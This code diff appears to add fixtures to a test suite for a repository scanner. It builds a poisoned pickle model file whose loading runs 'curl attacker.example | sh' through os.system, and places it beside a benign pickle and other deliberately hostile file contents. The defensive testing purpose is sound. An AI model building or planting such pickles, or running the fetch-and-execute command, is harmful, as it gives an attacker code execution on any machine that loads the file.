@@ -5,6 +5,11 @@
  */
 import type { UniverseData as HubData } from '../../ingest/huggingface/replay/universe.ts';
 import type { ReplayRepo, UniverseData } from '../../ingest/github/replay/universe.ts';
+import { benignStateDictPickle, buildPickle, op } from '../../ingest/scan/build.ts';
+
+/** A pickle that runs `os.system` when loaded. */
+const evilPickle = buildPickle([op.proto(2), op.global('os', 'system'), op.binunicode('curl attacker.example | sh'), op.tuple1(), op.reduce(), op.stop()]);
+const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');
 
 export const PINNED = 'c4a7000000000000000000000000000000000002';
 export const ACTION_SHA = '8f4b7f84864484a7bf31766abe9204da3cbe65b3';
@@ -123,6 +128,10 @@ export function chatService(): ReplayRepo {
       '.github/workflows/deploy.yml': { text: deployWorkflow },
       '.github/workflows/label.yml': { text: prWorkflow },
       'models/head.pt': { lfs: { size: 48_000_000 } },
+      'models/classifier.pkl': { base64: b64(evilPickle) },
+      // No extension: recognised by its bytes (a torch state dict pickle), or, for the script, not a model at all.
+      'weights/latest': { base64: b64(benignStateDictPickle()) },
+      'scripts/run': { text: '#!/bin/sh\nexec python app/serve.py\n' },
       'requirements.txt': { text: 'torch==2.1.0\ntransformers>=4.40\n' },
       // Hostile contents: binary bytes, invalid UTF-8, a name with SQL and Cypher in it.
       'assets/blob.json': { base64: Buffer.from([0x7b, 0x00, 0x01, 0xff, 0x22, 0x6d, 0x6f, 0x64, 0x65, 0x6c, 0x22]).toString('base64') },
